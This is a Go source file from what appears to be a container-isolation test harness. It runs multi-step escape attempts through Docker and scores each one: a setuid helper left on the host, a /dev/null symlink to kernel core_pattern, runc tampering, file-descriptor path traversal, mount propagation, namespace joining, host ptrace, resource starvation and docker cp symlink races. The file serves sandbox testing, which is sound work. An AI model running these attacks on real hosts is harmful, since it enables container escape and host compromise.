//go:build linux

package main

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"

	"plimsoll/internal/tools/engines"
)

// Attacks of more than one step.

// leaveSetuid leaves a setuid program where others of the host come by.
func leaveSetuid(ctx context.Context, s *setup) outcome {
	o := s.attack(ctx, s.binds("open"), "setuid", "/b/helper")
	if !o.Succeeded {
		return o
	}
	cmd := exec.CommandContext(ctx, s.Host.Dir+"/open/helper", "openw", s.canary)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	out, err := cmd.Output()
	if err != nil {
		return stopped("not run", err.Error())
	}
	return judge(engines.Result{Out: string(out)})
}

// forgedNull gives a container a /dev whose null is a link.
func forgedNull(ctx context.Context, s *setup) outcome {
	const volume = "forged"
	defer s.Docker(ctx, "volume", "rm", "-f", volume)
	if r := s.run(ctx, []string{"-v", volume + ":/forged"}, "ln", "-s", "/proc/sys/kernel/core_pattern", "/forged/null"); r.Code != 0 {
		return stopped("not prepared", r.Err)
	}
	return judge(s.run(ctx, []string{"-v", volume + ":/dev"}, "sh", "-c", "for f in kcore keys timer_list; do attack openw /proc/$f; done"))
}

// foreignExecutable lies in wait for the runtime, and checks that it is as it was.
func foreignExecutable(ctx context.Context, s *setup) outcome {
	runc, err := exec.LookPath("runc")
	if err != nil {
		return absent
	}
	before, err := os.Stat(runc)
	if err != nil {
		return stopped("not prepared", err.Error())
	}
	id, refused := s.start(ctx, []string{"--cap-add", "SYS_PTRACE"}, "attack", "runtime", "3")
	if refused != nil {
		return *refused
	}
	defer s.remove(ctx, id)
	for range 6 {
		s.Docker(ctx, "exec", id, "/bin/trap")
	}
	o := s.logged(ctx, id)
	if after, err := os.Stat(runc); err != nil || !after.ModTime().Equal(before.ModTime()) {
		return success
	}
	if !o.Succeeded {
		o.How = ""
	}
	return o
}

func leakedFolder(ctx context.Context, s *setup) outcome {
	var last outcome
	for n := 5; n <= 9; n++ {
		last = s.attack(ctx, []string{"-w", fmt.Sprintf("/proc/self/fd/%d", n)}, "read", "../../../../../.."+s.canary)
		if last.Succeeded {
			return last
		}
	}
	return last
}

// propagation mounts in a folder that the host shares.
func propagation(ctx context.Context, s *setup) outcome {
	shared := s.Host.Dir + "/shared"
	script := `mkdir -p "$1" && mount -t tmpfs shared "$1" && mount --make-shared "$1" && mkdir "$1/x"`
	if _, err := s.Host.Run(ctx, "sh", "-c", script, "sh", shared); err != nil {
		return stopped("not prepared", err.Error())
	}
	id, refused := s.start(ctx, with(admin, "-v", shared+":/p:rshared"), "attack", "mounthere", "/p/x")
	if refused != nil {
		return *refused
	}
	defer s.remove(ctx, id)
	o := s.logged(ctx, id)
	mounts, err := os.ReadFile(s.Host.Proc(1, "mountinfo"))
	switch {
	case err != nil:
		return stopped("no answer", err.Error())
	case strings.Contains(string(mounts), shared+"/x"):
		return success
	case o.Succeeded:
		return stopped("not seen by the host", "")
	}
	return o
}

func hostKey(ctx context.Context, s *setup) outcome {
	name := filepath.Base(s.Host.Dir)
	if out, err := exec.CommandContext(ctx, s.lab.program, "keyadd", name).CombinedOutput(); err != nil {
		return stopped("not prepared", string(out))
	}
	defer exec.CommandContext(ctx, s.lab.program, "keydrop", name).Run() //nolint:errcheck // a key of our own name is all that could be left
	return s.attack(ctx, unconfined, "keyget", name)
}

// neighbour starts a container of another team.
func (s *setup) neighbour(ctx context.Context, flags ...string) (string, *outcome) {
	return s.start(ctx, append(s.label(s.teams[1], ""), flags...), "attack", "hold")
}

func victim(flags []string, args ...string) func(context.Context, *setup) outcome {
	return func(ctx context.Context, s *setup) outcome {
		id, refused := s.neighbour(ctx, "-e", "SECRET=1")
		if refused != nil {
			return stopped("not prepared", refused.Why)
		}
		defer s.remove(ctx, id)
		return s.attack(ctx, with(flags, "--pid=container:"+id), args...)
	}
}

// join succeeds if a container of one team gets a namespace of another's.
func join(flag, kind string) func(context.Context, *setup) outcome {
	return func(ctx context.Context, s *setup) outcome {
		id, refused := s.neighbour(ctx, "--ipc=shareable")
		if refused != nil {
			return stopped("not prepared", refused.Why)
		}
		defer s.remove(ctx, id)
		link := s.as(1).Docker(ctx, "exec", id, "readlink", "/proc/self/ns/"+kind)
		return s.attack(ctx, []string{flag + "=container:" + id}, "same", kind, strings.TrimSpace(link.Out))
	}
}

func traceHost(ctx context.Context, s *setup) outcome {
	out, err := s.Host.Run(ctx, "sh", "-c", "sleep 1000 >/dev/null 2>&1 & echo $!")
	if err != nil {
		return stopped("not prepared", err.Error())
	}
	pid := strings.TrimSpace(out)
	defer s.Host.Run(ctx, "kill", pid) //nolint:errcheck // it ends with the host
	return s.attack(ctx, []string{"--pid=host", "--cap-add", "SYS_PTRACE"}, "trace", pid)
}

// starve takes something in one container and succeeds if another one, of
// another team, gets less than half of what it asks for.
func starve(ctx context.Context, s *setup, flags []string, asked string, half int, args ...string) outcome {
	id, refused := s.start(ctx, flags, append(append([]string{"attack"}, args...), asked, "hold")...)
	if refused != nil {
		return *refused
	}
	defer s.remove(ctx, id)
	s.logged(ctx, id)
	r := s.run(ctx, append(s.label(s.teams[1], ""), flags...), append(append([]string{"attack"}, args...), asked)...)
	all := parse(r.Out)
	switch {
	case len(all) == 0:
		return stopped("refused", r.Err)
	case all[0].Number < half:
		return success
	}
	return stopped("each has its own", fmt.Sprintf("%+v", all[0]))
}

func starveProcesses(ctx context.Context, s *setup) outcome {
	return starve(ctx, s, []string{"--ulimit", "nproc=100", "-u", "4711"}, "70", 60, "forks")
}

func starveInotify(ctx context.Context, s *setup) outcome {
	return starve(ctx, s, []string{"-u", "4711"}, "1000", 50, "inotify")
}

func deviousVolume(ctx context.Context, s *setup) outcome {
	const volume = "devious"
	defer s.Docker(ctx, "volume", "rm", "-f", volume)
	r := s.Docker(ctx, "volume", "create", "--opt", "type=none", "--opt", "o=bind", "--opt", "device="+filepath.Dir(s.canary), volume)
	if r.Code != 0 {
		return stopped("refused", r.Err)
	}
	return s.attack(ctx, []string{"-v", volume + ":/b"}, "openw", "/b/canary")
}

func lift(ctx context.Context, s *setup) outcome {
	id, refused := s.start(ctx, []string{"--pids-limit", "50", "--memory", "64m"}, "attack", "hold")
	if refused != nil {
		return *refused
	}
	defer s.remove(ctx, id)
	if r := s.Docker(ctx, "update", "--pids-limit", "-1", "--memory", "4g", "--memory-swap", "4g", id); r.Code != 0 {
		return stopped("refused", r.Err)
	}
	return s.exec(ctx, id, nil, "forks", "600")
}

func execPrivileged(ctx context.Context, s *setup) outcome {
	id, refused := s.start(ctx, nil, "attack", "hold")
	if refused != nil {
		return *refused
	}
	defer s.remove(ctx, id)
	return s.exec(ctx, id, []string{"--privileged"}, "privileged")
}

// raced is a container that exchanges a folder and a link to the host's folder
// race, which it has, too.
func (s *setup) raced(ctx context.Context) (string, *outcome) {
	script := fmt.Sprintf(`mkdir -p %[1]s /data/x && echo inside >%[1]s/out && echo inside >/data/x/out && exec attack swap /data/x %[1]s`, s.Host.Dir+"/race")
	return s.start(ctx, nil, "sh", "-c", script)
}

func raceIn(ctx context.Context, s *setup) outcome {
	id, refused := s.raced(ctx)
	if refused != nil {
		return *refused
	}
	defer s.remove(ctx, id)
	for range 15 {
		s.Docker(ctx, "cp", s.Host.Dir+"/race/file", id+":/data/x/in")
		if _, err := os.Stat(s.Host.Dir + "/race/in"); err == nil {
			return success
		}
	}
	return stopped("", "15 times")
}

func raceOut(ctx context.Context, s *setup) outcome {
	if err := os.WriteFile(s.Host.Dir+"/race/out", []byte("canary"), 0o644); err != nil {
		return stopped("not prepared", err.Error())
	}
	id, refused := s.raced(ctx)
	if refused != nil {
		return *refused
	}
	defer s.remove(ctx, id)
	for range 15 {
		if r := s.Docker(ctx, "cp", id+":/data/x/out", "-"); strings.Contains(r.Out, "canary") {
			return success
		}
	}
	return stopped("", "15 times")
}
